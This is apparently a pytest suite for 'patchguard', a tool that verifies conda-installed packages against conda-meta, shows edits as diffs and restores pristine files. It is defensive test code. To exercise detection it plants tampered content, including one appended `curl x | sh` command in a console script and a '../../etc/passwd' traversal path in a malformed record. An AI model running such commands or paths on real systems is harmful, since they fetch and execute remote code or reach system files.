"""conda environments: packages installed by a real conda installer (py-rattler) from a local channel, each
verified against conda-meta, explained against its package from the package cache, restored — and pip's
distributions in the same environment judged by their RECORD."""

from __future__ import annotations

import json
import os
import shutil
import time
from pathlib import Path

import pytest

from patchguard.integrity.condarecord import binary_replace

from .condahelp import PLACEHOLDER, PYVER, SITE, Package, build_package, install, python_package
from .helpers import build_wheel, cli

pytest.importorskip("rattler")

_INIT = "def forward(x):\n    return x * 2\n"
_CONFIG = f"PREFIX = {PLACEHOLDER!r}\nLIBS = {PLACEHOLDER!r} + '/lib'\n"
_LIB = b"\x7fELF\x02\x01" + b"\0" * 10 + PLACEHOLDER.encode() + b"/lib\0" + b"tail\0" * 20


def _packages() -> list[Package]:
    dist_info = f"{SITE}/torchlike-2.1.0.dist-info"
    return [
        python_package(),
        Package(
            "pytorchlike",
            "2.1.0",
            {
                f"{SITE}/torchlike/__init__.py": _INIT,
                f"{SITE}/torchlike/_config.py": _CONFIG,
                f"{dist_info}/METADATA": "Metadata-Version: 2.1\nName: torchlike\nVersion: 2.1.0\n\n",
                f"{dist_info}/INSTALLER": "conda\n",
                # conda-build's RECORD describes its build prefix: stale here, never what judges conda's files
                f"{dist_info}/RECORD": "torchlike/__init__.py,sha256=AAAA,1\ntorchlike/gone.py,,\n",
                "lib/libtorchlike.so.2.1": _LIB,
                "bin/torchrun-like": f"#!{PLACEHOLDER}/bin/python\nprint('run')\n",
            },
            build="py_cuda_0",
            text_prefix=(f"{SITE}/torchlike/_config.py", "bin/torchrun-like"),
            binary_prefix=("lib/libtorchlike.so.2.1",),
            softlinks={"lib/libtorchlike.so": "libtorchlike.so.2.1"},
            depends=(f"python {PYVER}.*",),
            fmt=".conda",
        ),
        Package(
            "helper",
            "1.0",
            {
                "site-packages/helper/__init__.py": "VALUE = 1\n",
                "site-packages/helper-1.0.dist-info/METADATA": (
                    "Metadata-Version: 2.1\nName: helper\nVersion: 1.0\n\n"
                ),
                "site-packages/helper-1.0.dist-info/INSTALLER": "conda\n",
            },
            noarch="python",
            depends=("python",),
            entry_points=("helper-tool = helper:main",),
        ),
    ]


@pytest.fixture(scope="module")
def channel(tmp_path_factory: pytest.TempPathFactory) -> Path:
    ch = tmp_path_factory.mktemp("channel")
    for pkg in _packages():
        build_package(ch, pkg)
    return ch


@pytest.fixture
def conda_env(tmp_path: Path, channel: Path) -> Path:
    prefix, cache = tmp_path / "env", tmp_path / "pkgs"
    install(channel, prefix, cache, ["pytorchlike", "helper"])
    return prefix


def _site(prefix: Path) -> Path:
    return prefix / SITE


def _scan(prefix: Path, *more: str) -> tuple[int, dict[str, object], str]:
    code, out, err = cli("scan", "--site-packages", str(_site(prefix)), "--format", "json", *more)
    return code, json.loads(out), err


def _findings(doc: dict[str, object]) -> list[dict[str, object]]:
    return doc["findings"]  # type: ignore[return-value]


def _edit_in_place(path: Path, data: bytes) -> None:
    """What an editor saving in place does: the same inode (and so conda's package cache, hard-linked)."""
    with open(path, "r+b") as f:
        f.truncate(0)
        f.write(data)


def test_an_untouched_conda_environment_is_verified_by_conda_meta(conda_env: Path) -> None:
    record = json.loads(next((conda_env / "conda-meta").glob("pytorchlike-*.json")).read_text())
    rewritten = {p["_path"]: p for p in record["paths_data"]["paths"] if p.get("prefix_placeholder")}
    assert set(rewritten) == {f"{SITE}/torchlike/_config.py", "bin/torchrun-like", "lib/libtorchlike.so.2.1"}
    assert (
        PLACEHOLDER not in (_site(conda_env) / "torchlike/_config.py").read_text()
    )  # the installer rewrote it
    code, doc, err = _scan(conda_env)
    assert code == 0, (doc, err)
    assert _findings(doc) == []
    names = {(d["name"], d["version"]) for d in doc["distributions"]}  # type: ignore[attr-defined]
    assert names == {("torchlike", "2.1.0"), ("helper", "1.0"), ("python", f"{PYVER}.0")}
    # every hashed file of the three packages, inside site-packages and out (the library, the tool)
    # + helper-tool, the console script rattler wrote (conda-meta records its sha256)
    assert doc["summary"]["files_checked"] == 2 + 7 + 3 + 1, doc  # type: ignore[index]


def test_an_edit_through_the_hard_link_is_found_explained_and_restored(
    conda_env: Path, channel: Path
) -> None:
    init = _site(conda_env) / "torchlike/__init__.py"
    assert init.stat().st_nlink == 2  # linked from rattler's package cache
    _edit_in_place(init, (_INIT + "import torch; torch.save(x, '/tmp/x.pt')\n").encode())
    code, doc, _ = _scan(conda_env)
    assert code == 1
    found = [f for f in _findings(doc) if f["path"] == "torchlike/__init__.py"]
    assert {f["distribution"] for f in found} == {"torchlike"} and "high" in {f["severity"] for f in found}
    # the code finding that replaced the bare "modified" one still says the cache holds the edit too
    assert any("conda's package cache" in str(f["message"]) for f in found if f["severity"] == "high")
    # The package cache's copy is the same inode: not pristine. The .conda package file is, by its sha256.
    code, out, err = cli("diff", "--site-packages", str(_site(conda_env)))
    assert code == 2 and "no pristine copy" in err and "does not match" in err
    wheelhouse = str(channel / "linux-64")
    code, out, err = cli("diff", "--site-packages", str(_site(conda_env)), "--wheelhouse", wheelhouse)
    assert code == 0, err
    assert "+import torch; torch.save(x, '/tmp/x.pt')" in out
    before = init.stat().st_ino
    code, out, err = cli(
        "restore", "torchlike", "--site-packages", str(_site(conda_env)), "--wheelhouse", wheelhouse
    )
    assert code == 0, err
    assert init.read_text() == _INIT and init.stat().st_ino != before  # replaced, never written in place
    assert "verified pristine against conda-meta" in out
    assert "conda's package cache" in err and "rm -r" in err
    assert _scan(conda_env)[0] == 0


def test_prefix_rewritten_files_are_checked_and_restored_as_installed(
    conda_env: Path, tmp_path: Path
) -> None:
    config = _site(conda_env) / "torchlike/_config.py"
    lib = conda_env / "lib/libtorchlike.so.2.1"
    installed_config, installed_lib = config.read_bytes(), lib.read_bytes()
    assert str(conda_env).encode() in installed_lib and len(installed_lib) == len(_LIB)
    # Unlink first (a new inode): the package cache keeps its pristine copy.
    for path, data in (
        (config, installed_config + b"LIBS = '/opt/mine'\n"),
        (lib, installed_lib[:-5] + b"evil\0"),
    ):
        path.unlink()
        path.write_bytes(data)
    code, doc, _ = _scan(conda_env)
    assert code == 1
    paths = {f["path"]: f for f in _findings(doc)}
    assert "torchlike/_config.py" in paths and paths[str(lib)]["rule"] == "modified-extension"
    code, out, err = cli("diff", "--site-packages", str(_site(conda_env)))
    assert code == 0, err
    assert f"-LIBS = {str(conda_env)!r} + '/lib'" not in out  # only the added line differs
    assert "+LIBS = '/opt/mine'" in out
    code, out, err = cli("restore", "torchlike", "--site-packages", str(_site(conda_env)))
    assert code == 0, err
    assert config.read_bytes() == installed_config and lib.read_bytes() == installed_lib
    assert _scan(conda_env)[0] == 0


def test_binary_replace_pads_each_string_like_conda() -> None:
    data = b"a\0/placeholder/lib:/placeholder/x\0b"
    assert binary_replace(data, b"/placeholder", b"/env") == b"a\0/env/lib:/env/x" + b"\0" * 17 + b"b"


def test_noarch_python_files_are_found_where_they_were_moved(conda_env: Path) -> None:
    init = _site(conda_env) / "helper/__init__.py"
    init.unlink()
    init.write_text("VALUE = 2\nimport pdb; pdb.set_trace()\n")
    code, doc, _ = _scan(conda_env, "helper")
    assert code == 1 and {f["path"] for f in _findings(doc)} == {"helper/__init__.py"}
    code, out, err = cli("diff", "helper", "--site-packages", str(_site(conda_env)))
    assert code == 0 and "-VALUE = 1" in out and "+VALUE = 2" in out, err


def test_a_pip_distribution_in_a_conda_environment_keeps_its_record(conda_env: Path, tmp_path: Path) -> None:
    from installer import install as install_wheel
    from installer.destinations import SchemeDictionaryDestination
    from installer.sources import WheelFile

    wheel = build_wheel(tmp_path, "pipdist", "0.1", {"pipdist/__init__.py": "X = 1\n"})
    site = str(_site(conda_env))
    scheme = {k: site for k in ("purelib", "platlib")} | {
        "scripts": str(conda_env / "bin"), "headers": str(tmp_path / "h"), "data": str(conda_env),
    }  # fmt: skip
    with WheelFile.open(wheel) as source:
        install_wheel(source, SchemeDictionaryDestination(scheme, "python", "posix"), {"INSTALLER": b"pip"})
    assert _scan(conda_env)[0] == 0
    (_site(conda_env) / "pipdist/__init__.py").write_text("X = 2\nimport pdb; pdb.set_trace()\n")
    code, doc, _ = _scan(conda_env)
    assert code == 1 and {(f["distribution"], f["path"]) for f in _findings(doc)} == {
        ("pipdist", "pipdist/__init__.py")
    }


def test_pip_installed_over_a_conda_package_is_said_once(conda_env: Path, tmp_path: Path) -> None:
    """``pip install -U`` over conda's package: pip removes conda's files by the RECORD it finds and writes
    its own; conda-meta still lists the old files. One info finding, no missing-file noise."""
    site = _site(conda_env)
    shutil.rmtree(site / "helper")
    shutil.rmtree(site / "helper-1.0.dist-info")
    from installer import install as install_wheel
    from installer.destinations import SchemeDictionaryDestination
    from installer.sources import WheelFile

    wheel = build_wheel(tmp_path, "helper", "1.1", {"helper/__init__.py": "VALUE = 11\n"})
    scheme = {k: str(site) for k in ("purelib", "platlib")} | {
        "scripts": str(conda_env / "bin"), "headers": str(tmp_path / "h"), "data": str(conda_env),
    }  # fmt: skip
    with WheelFile.open(wheel) as source:
        install_wheel(source, SchemeDictionaryDestination(scheme, "python", "posix"), {"INSTALLER": b"pip"})
    code, doc, err = _scan(conda_env)
    assert code == 0, err
    [finding] = _findings(doc)
    assert finding["rule"] == "managed-replaced" and finding["severity"] == "info"
    assert finding["distribution"] == "helper" and finding["version"] == "1.1"
    (site / "helper/__init__.py").write_text("VALUE = 12\nimport pdb; pdb.set_trace()\n")
    code, doc, _ = _scan(conda_env)
    assert code == 1 and "helper/__init__.py" in [f["path"] for f in _findings(doc)]


def test_a_warm_scan_hashes_nothing_and_still_sees_a_new_edit(conda_env: Path) -> None:
    from patchguard.env import resolve_target
    from patchguard.integrity.inventory import take_inventory

    target = resolve_target(site_packages=[str(_site(conda_env))])
    first = take_inventory(target=target)
    assert first.report.files_hashed == 13 and not first.changes
    time.sleep(0.05)  # past the racy window of the files written by the install
    take_inventory(target=target)
    warm = take_inventory(target=target)
    assert warm.report.files_hashed == 0 and not warm.changes
    init = _site(conda_env) / "helper/__init__.py"
    init.unlink()
    init.write_text("VALUE = 3\n")
    after = take_inventory(target=target)
    assert after.report.files_hashed == 1 and [c.finding.path for c in after.changes] == [
        "helper/__init__.py"
    ]


def test_an_unowned_file_in_a_conda_environment_is_still_found(conda_env: Path) -> None:
    (_site(conda_env) / "zz_debug.pth").write_text("import os; os.environ['NCCL_P2P_DISABLE'] = '1'\n")
    code, doc, _ = _scan(conda_env)
    assert code == 1 and "pth-import" in [f["rule"] for f in _findings(doc)]


@pytest.mark.parametrize(
    "text",
    [
        "{not json",
        json.dumps(["a list"]),
        json.dumps(
            {
                "name": "x",
                "version": "1",
                "paths_data": {"paths": [{"_path": "../../etc/passwd", "sha256": "0" * 64}]},
            }
        ),
    ],
)
def test_a_malformed_conda_meta_record_is_one_finding(conda_env: Path, text: str) -> None:
    bad = conda_env / "conda-meta" / "broken-1-0.json"
    bad.write_text(text)
    code, doc, err = _scan(conda_env)
    assert "Traceback" not in err
    [finding] = _findings(doc)
    assert finding["rule"] == "record-row" and "broken-1-0.json" in str(finding["path"])
    assert finding["severity"] == "moderate" and code == 0  # below the default --fail-on high


def test_conda_meta_names_the_environment_but_not_a_venv_made_from_it(
    conda_env: Path, tmp_path: Path
) -> None:
    from patchguard.env import resolve_target

    assert resolve_target(site_packages=[str(_site(conda_env))]).conda == str(conda_env)
    venv_site = tmp_path / "venv" / SITE
    venv_site.mkdir(parents=True)
    assert resolve_target(site_packages=[str(venv_site)]).conda is None
    assert os.path.isdir(conda_env / "conda-meta")


def _liar(channel: Path, tmp_path: Path) -> Path:
    """helper 1.0 under the real file name, holding other bytes but the real package's paths.json."""
    real = _packages()[2]
    liar_channel = tmp_path / "liar"
    build_package(
        liar_channel,
        Package(
            real.name,
            real.version,
            {**real.files, "site-packages/helper/__init__.py": "VALUE = 666\n"},
            noarch="python",
        ),
    )
    path = liar_channel / "noarch" / (real.stem + ".tar.bz2")
    import tarfile

    with tarfile.open(channel / "noarch" / (real.stem + ".tar.bz2")) as t:
        honest_paths = t.extractfile("info/paths.json").read()  # type: ignore[union-attr]
    with tarfile.open(path) as t:
        members = {m.name: t.extractfile(m).read() for m in t.getmembers() if m.isfile()}  # type: ignore[union-attr]
    members["info/paths.json"] = honest_paths
    from .condahelp import _tar

    path.write_bytes(_tar(members))
    return path


def test_the_package_file_beside_the_cache_is_found_and_a_lying_one_refused(
    conda_env: Path, channel: Path, tmp_path: Path
) -> None:
    """conda keeps the package file beside the directory it extracted: an edit through the hard link is
    explained from it without --wheelhouse. A package file that is not the one conda-meta's sha256 names —
    or whose paths.json tells the truth while its members do not — is never taken as pristine."""
    name = "helper-1.0-0.tar.bz2"
    cache = tmp_path / "pkgs"
    init = _site(conda_env) / "helper/__init__.py"
    _edit_in_place(init, b"VALUE = 2\nimport pdb; pdb.set_trace()\n")
    assert (cache / "helper-1.0-0/site-packages/helper/__init__.py").read_bytes().startswith(b"VALUE = 2")
    shutil.copy(channel / "noarch" / name, cache / name)
    code, out, err = cli("diff", "helper", "--site-packages", str(_site(conda_env)))
    assert code == 0 and "-VALUE = 1" in out, err

    liar = _liar(channel, tmp_path)
    shutil.copy(liar, cache / name)
    from patchguard.pristine.store import PristineStore

    shutil.rmtree(PristineStore().root, ignore_errors=True)  # the first diff stored the real bytes
    code, out, err = cli("diff", "helper", "--site-packages", str(_site(conda_env)))
    assert code == 2 and "VALUE = 666" not in out and "sha256 is not the one conda-meta records" in err
    # Without the archive's hash in conda-meta (older records), the members are still checked one by one.
    record = next((conda_env / "conda-meta").glob("helper-*.json"))
    doc = json.loads(record.read_text())
    doc.pop("sha256"), doc.pop("md5", None)
    record.write_text(json.dumps(doc))
    code, out, err = cli("diff", "helper", "--site-packages", str(_site(conda_env)))
    assert code == 2 and "VALUE = 666" not in out and "does not match" in err, err


def test_capture_revert_and_apply_a_set_on_a_conda_package(conda_env: Path, tmp_path: Path) -> None:
    site = ["--site-packages", str(_site(conda_env))]
    patches = ["--patches", str(tmp_path / "patches")]
    init = _site(conda_env) / "torchlike/__init__.py"
    edited = _INIT.replace("x * 2", "x * 3")
    init.unlink()  # a new inode: conda's package cache keeps the pristine copy
    init.write_text(edited)
    code, out, err = cli("capture", "--set", "triple", "torchlike", *site, *patches)
    assert code == 0, err
    assert (tmp_path / "patches/triple/patchset.toml").read_text().count("torchlike") >= 1
    code, out, err = cli("revert", "--set", "triple", *site, *patches)
    assert code == 0, err
    assert init.read_text() == _INIT and _scan(conda_env)[1]["findings"] == []
    code, out, err = cli("apply", "--set", "triple", *site, *patches)
    assert code == 0, err
    assert init.read_text() == edited
    code, out, err = cli("sets", *site, *patches)
    assert code == 0 and "applied" in out, (out, err)


def test_a_console_script_the_installer_wrote_is_checked(conda_env: Path) -> None:
    """rattler (like conda) writes noarch packages' entry points and records their sha256 in conda-meta."""
    tool = conda_env / "bin/helper-tool"
    assert "helper" in tool.read_text()
    record = json.loads(next((conda_env / "conda-meta").glob("helper-*.json")).read_text())
    [entry] = [p for p in record["paths_data"]["paths"] if p["_path"] == "bin/helper-tool"]
    assert entry["path_type"] == "unix_python_entry_point" and entry.get("sha256")
    tool.write_text(tool.read_text() + "import os; os.system('curl x | sh')\n")
    _code, doc, _ = _scan(conda_env)
    assert [(f["rule"], f["path"]) for f in _findings(doc)] == [("modified-script", str(tool))]
